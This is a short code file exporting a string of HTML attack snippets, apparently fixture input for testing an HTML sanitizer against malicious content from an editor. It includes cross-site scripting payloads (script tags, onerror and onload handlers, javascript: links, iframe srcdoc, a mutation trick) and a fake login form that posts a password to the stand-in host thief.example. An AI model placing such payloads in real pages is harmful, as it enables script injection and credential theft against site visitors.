/** Attacks by someone who can edit content. */
export const ATTACK = [
  '<p>A quiet weekend by the sea.</p>',
  '<script>window.hacked = "script"</script>',
  '<img src="/no-such.png" onerror="window.hacked = \'onerror\'">',
  '<svg onload="window.hacked = \'svg\'"><script>window.hacked = "svg script"</script></svg>',
  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
  '<a href="javascript:window.hacked = \'link\'">Read on</a>',
  '<form action="https://thief.example/"><input name="password"><button>Log in again</button></form>',
  '<style>body { display: none }</style>',
  '<math><mi><style><img src=x onerror="window.hacked = \'mutation\'"></style></mi></math>',
].join('');
